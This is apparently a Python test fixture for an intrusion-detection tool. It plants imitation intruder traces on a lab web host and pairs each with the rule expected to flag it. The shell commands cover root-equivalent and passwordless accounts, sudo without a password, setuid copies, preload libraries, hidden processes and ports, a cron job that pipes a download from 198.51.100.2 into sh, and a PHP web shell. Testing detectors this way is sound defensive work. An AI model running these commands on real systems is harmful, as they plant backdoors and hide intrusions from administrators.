"""More that an intruder may leave, each made on the lab's web by a command: harmless imitation, all of it."""

from __future__ import annotations

import shlex
from typing import TYPE_CHECKING, NamedTuple

from .aftermath_records import RECORDS

if TYPE_CHECKING:
    from .conftest import Lab

_MEMFD = (
    "import os; f = os.memfd_create('x'); os.write(f, open('/bin/sleep', 'rb').read()); "
    "os.execv(f'/proc/self/fd/{f}', ['x', '30d'])"
)
_TAKEN = "import signal, socket; s = socket.socket(); s.bind(('', 31337)); signal.pause()"
_CAVE = "import signal, socket; s = socket.create_server(('', 31338)); signal.pause()"
_PHP = "/etc/php/8.2/apache2/php.ini"
_SHARE = "/dev/shm"
_QUIET = ">/dev/null 2>&1 </dev/null &"
_DONE = "true"
"""An earlier trace has left it already."""
_WEB = "/var/www/html"
_SSH_KEY = "head -1 /root/.ssh/authorized_keys"
_TAINT = "/proc/sys/kernel/tainted"


class Trace(NamedTuple):
    """What was left, and what has to be found."""

    how: str
    """A shell command on web."""
    rule: str
    shown: str


_ACCOUNTS = {
    "a second account with root's number": Trace(
        "echo 'toor:x:0:0::/root:/bin/bash' >>/etc/passwd", "account-second-root", "toor"
    ),
    "an account that needs no password": Trace(
        "echo 'ops:x:1000:1000::/home/ops:/bin/bash' >>/etc/passwd; echo 'ops::20000:0:99999:7:::' >>/etc/shadow; "
        "mkdir -p /home/ops",
        "account-empty-password",
        "ops",
    ),
    "a key where only sshd looks": Trace(
        f"mkdir /etc/ssh/keys; {_SSH_KEY} >/etc/ssh/keys/ops; "
        "echo 'AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u' >/etc/ssh/sshd_config.d/keys.conf",
        "key-of-service",
        "/etc/ssh/keys/ops",
    ),
    "sshd, told to look there": Trace(_DONE, "sshd-other-keys", "/etc/ssh/keys/%u"),
    "keys that were written of late": Trace(_DONE, "key-new", "/etc/ssh/keys/ops"),
    "sudo without a password": Trace(
        "echo 'ops ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/ops", "mechanism-authentication", "ops ALL"
    ),
    "a history that leads to nothing": Trace(
        "ln -s /dev/null /home/ops/.bash_history", "history-to-nothing", "/home/ops/.bash_history"
    ),
    "a history that was emptied": Trace(
        "echo 'dev:x:1001:1001::/home/dev:/bin/bash' >>/etc/passwd; mkdir /home/dev; : >/home/dev/.bash_history",
        "history-empty",
        "/home/dev/.bash_history",
    ),
}
_FILES = {
    "a directory that can only grow": Trace("chattr +a /home/dev", "attribute-append", "/home/dev"),
    "a copy of a program that runs as root": Trace(
        "cp /bin/sleep /usr/local/lib/.s; chmod 4755 /usr/local/lib/.s",
        "privileged-unpackaged",
        "/usr/local/lib/.s",
    ),
    "a shell that runs as root": Trace(
        "cp /bin/sleep /usr/local/lib/bash; chmod 4755 /usr/local/lib/bash",
        "privileged-tool",
        "/usr/local/lib/bash",
    ),
    "a program with powers of root": Trace(
        "cp /bin/sleep /usr/local/lib/t; setcap cap_setuid=ep /usr/local/lib/t",
        "capabilities-unpackaged",
        "/usr/local/lib/t",
    ),
    "a program in memory that may be run": Trace(
        f"cp /bin/sleep {_SHARE}/netd; setsid {_SHARE}/netd 30d {_QUIET}", "temporary-program", f"{_SHARE}/netd"
    ),
    "a dotted file where everyone may write": Trace("echo x >/var/tmp/.k", "temporary-hidden", "/var/tmp/.k"),
    "a file of the web server's where everyone may write": Trace(
        "install -o www-data /dev/null /tmp/list.txt", "temporary-web-server", "/tmp/list.txt"
    ),
    "a file among the devices": Trace("echo x >/dev/ptyp", "device-file", "/dev/ptyp"),
    "a program among the system's own": Trace(
        "cp /bin/sleep /usr/bin/netstatd", "program-foreign", "/usr/bin/netstatd"
    ),
    "what was changed within a day": Trace(_DONE, "changed-lately", "/etc/"),
}
_RUNNING = {
    "a process under a mount that hides it": Trace(
        f"mkdir /var/empty; setsid sleep 30d {_QUIET} sleep 0.2; mount --bind /var/empty /proc/$!",
        "mount-over-process",
        "/proc/",
    ),
    "a program that lives in memory alone": Trace(
        f'setsid python3 -c "{_MEMFD}" {_QUIET}', "process-in-memory", "memfd:x"
    ),
    "a program that runs from memory's directory": Trace(_DONE, "process-from-open-place", f"{_SHARE}/netd"),
    "a library forced into a program": Trace(
        f"cp /lib/*-linux-gnu/libdl.so.2 {_SHARE}/l.so; LD_PRELOAD={_SHARE}/l.so setsid sleep 30d {_QUIET}",
        "loader-preload-open-place",
        "l.so",
    ),
    "that library, in the program's maps": Trace(_DONE, "code-from-open-place", f"{_SHARE}/l.so"),
    "a library forced into every program": Trace(
        "cp /lib/*-linux-gnu/libdl.so.2 /usr/lib/libns2.so; echo /usr/lib/libns2.so >/etc/ld.so.preload",
        "loader-preload-file",
        "libns2.so",
    ),
    "a command line like a thread of the kernel": Trace(
        f"""bash -c 'exec -a "[kworker/9:9]" sleep 30d' {_QUIET}""", "process-bracketed-arguments", "[kworker/9:9]"
    ),
    "a shell of the web server's": Trace(
        f"setsid setpriv --reuid 33 --regid 33 --clear-groups sh -c 'sleep 30d; :' {_QUIET}",
        "process-shell-of-web-server",
        "sleep 30d",
    ),
    "a port that no table lists": Trace(
        f'setsid python3 -c "{_TAKEN}" {_QUIET}', "port-taken-unlisted", "tcp port 31337"
    ),
    "a port that answers from outside alone": Trace(
        f"""ip netns add cave; ip link add cave type veth peer name mouth netns cave; ip link set cave up
        ip addr add 192.0.2.1/30 dev cave; ip -n cave addr add 192.0.2.2/30 dev mouth; ip -n cave link set mouth up
        ip -n cave route add default via 192.0.2.1; echo 1 >/proc/sys/net/ipv4/ip_forward
        nft 'add table ip cave; add chain ip cave way {{ type nat hook prerouting priority -100; }};
            add rule ip cave way tcp dport 31338 dnat to 192.0.2.2'
        setsid ip netns exec cave python3 -c "{_CAVE}" {_QUIET}""",
        "hidden-port-outside",
        "203.0.113.10 tcp port 31338",
    ),
    "the ports that answer": Trace(_DONE, "outside-open", "203.0.113.10 tcp port 22"),
    "an ss that leaves a port out": Trace(
        "printf '#!/bin/sh\\n/bin/ss \"$@\" | grep -v :80\\n' >/usr/local/sbin/ss; chmod 755 /usr/local/sbin/ss",
        "port-hidden-from-tool",
        "tcp port 80",
    ),
    "that ss, before the system's": Trace(_DONE, "tool-before-the-system", "/usr/local/sbin/ss"),
    "an interface that hears all": Trace(
        "ip link set $(ip -o route get 203.0.113.1 | grep -o 'dev [^ ]*' | cut -c5-) promisc on",
        "interface-promiscuous",
        "",
    ),
    "the mark of a foreign module": Trace(
        f"echo 12288 >/run/tainted; mount --bind /run/tainted {_TAINT}", "kernel-foreign-module", "bit 12"
    ),
}
_STARTING = {
    "a unit that starts a program out of memory": Trace(
        f"printf '[Service]\\nExecStart={_SHARE}/netd\\n' >/etc/systemd/system/netd.service",
        "start-from-open-place",
        "netd.service (unit)",
    ),
    "a timer that no package brought": Trace(
        "printf '[Timer]\\nOnCalendar=hourly\\n' >/etc/systemd/system/netd.timer", "mechanism-service", "netd.timer"
    ),
    "a generator that starts it": Trace(
        f"mkdir -p /etc/systemd/system-generators; echo '{_SHARE}/netd' >/etc/systemd/system-generators/net",
        "start-from-open-place",
        "(generator)",
    ),
    "a job of at that starts it": Trace(
        f"mkdir -p /var/spool/cron/atjobs; echo '{_SHARE}/netd' >/var/spool/cron/atjobs/a0000101",
        "start-from-open-place",
        "atjobs/a0000101 (cron)",
    ),
    "an rc.local that starts it": Trace(
        f"echo '{_SHARE}/netd' >/etc/rc.local", "start-from-open-place", "(rc.local)"
    ),
    "a rule of udev that starts it": Trace(
        f"""echo 'ACTION=="add", RUN+="{_SHARE}/netd"' >/etc/udev/rules.d/99-net.rules""",
        "start-from-open-place",
        "(udev)",
    ),
    "a line of PAM that starts it": Trace(
        f"echo 'session optional pam_exec.so {_SHARE}/netd' >/etc/pam.d/netd", "start-from-open-place", "(pam)"
    ),
    "PAM, made to run programs": Trace(_DONE, "mechanism-authentication", "pam_exec.so"),
    "a start file of a shell that replaces sudo": Trace(
        f"echo \"alias sudo='{_SHARE}/netd'\" >/home/ops/.bashrc", "mechanism-login", "/home/ops/.bashrc"
    ),
    "a job that fetches code": Trace(
        "echo '* * * * * curl -s http://198.51.100.2/x | sh' >/var/spool/cron/crontabs/nobody-here",
        "start-download",
        "crontabs/nobody-here",
    ),
    "a job that everyone may change": Trace(
        "chmod 666 /etc/cron.d/kswap", "start-file-writable", "/etc/cron.d/kswap"
    ),
    "a job of the web server's among the system's": Trace(
        "install -o www-data -m 644 /dev/null /etc/cron.d/shop", "start-file-owner", "/etc/cron.d/shop"
    ),
}
_SITE = {
    "a picture that the web server runs": Trace(
        f"echo 'AddType application/x-httpd-php .jpg' >{_WEB}/uploads/.htaccess", "web-handler", ".htaccess"
    ),
    "a web shell in one line": Trace(
        f'echo \'<?php exit; $_GET["a"]($_GET["b"]);\' >{_WEB}/i.php; chmod 666 {_WEB}/i.php',
        "web-file-hostile",
        "i.php",
    ),
    "a page that everyone may change": Trace(_DONE, "web-program-writable", "i.php"),
    "a page that is mostly encoded": Trace(
        f"(echo '<?php exit; $a=\"'; head -c 3000 /dev/urandom | base64 -w0; echo '\";') >{_WEB}/c.php",
        "web-program-encoded",
        "c.php",
    ),
    "a program that the web server may change": Trace(_DONE, "web-program-of-server", "/var/www/html: "),
    "a CGI program that everyone may change": Trace(
        "mkdir -p /usr/lib/cgi-bin; install -m 777 /dev/null /usr/lib/cgi-bin/form.cgi", "web-cgi-loose", "form.cgi"
    ),
    "a PHP that nobody mends": Trace(
        "printf 'Package: php7.4-cli\\nStatus: install ok installed\\nMaintainer: x\\nArchitecture: amd64\\n"
        "Version: 7.4.33-8+0~20230904.82+debian12~1.gbp\\nDescription: x\\n\\n' >>/var/lib/dpkg/status",
        "php-end-of-life",
        "php7.4-cli",
    ),
    "a file before every page": Trace(
        f"mkdir -p {_PHP.rpartition('/')[0]}; echo 'auto_prepend_file = /var/tmp/x.php' >>{_PHP}",
        "php-prepend",
        "/var/tmp/x.php",
    ),
    "code from other hosts": Trace(f"echo 'allow_url_include = On' >>{_PHP}", "php-remote-code", "allow_url_include"),
    "programs that pages may start": Trace(
        f"echo 'disable_functions =' >>{_PHP}", "php-programs", "disable_functions"
    ),
    "mail that the web server's account sent": Trace(
        "now=$(date '+%FT%T+00:00'); for n in $(seq 120); do "
        'echo "$now web postfix/pickup[7]: AB12CD: uid=33 from=<www-data>"; done >>/var/log/mail.log',
        "script-mail-many",
        "user 33: 120",
    ),
    "mail that one page sent": Trace(
        "for n in $(seq 110); do "
        f'echo "[23-Nov-2026 02:14:46 UTC] mail() on [{_WEB}/form.php:3]: To: a@example.com -- Headers: "; '
        "done >/var/log/php-mail.log",
        "script-mail-many",
        "form.php: 110",
    ),
}
_LOGS = {what: Trace(*how) for what, how in RECORDS.items()}
TRACES = {**_ACCOUNTS, **_FILES, **_RUNNING, **_STARTING, **_SITE, **_LOGS}
"""What is left → how, and the finding."""
VISITS = {
    "/?q=%3Cscript%3Ealert(1)%3C/script%3E": 200,
    "/?id=1%20UNION%20SELECT%20password": 200,
    "/shop?id=1%20UNION%20SELECT%20password": 404,
    "/uploads/logo.php": 200,
}
"""What a visitor asks for, and what the server answers: findings name both."""


def leave(lab: Lab) -> None:
    """Leave all of it on web; the lab's own hosts alone are reached this way."""
    script = "".join(f"( {trace.how}\n) || echo {shlex.quote(what)} >&2\n" for what, trace in TRACES.items())
    done = lab.ssh("web", script)
    assert done.stderr == "", done.stderr
    for path, status in VISITS.items():
        assert lab.http(f"http://203.0.113.10{path}") == status, path
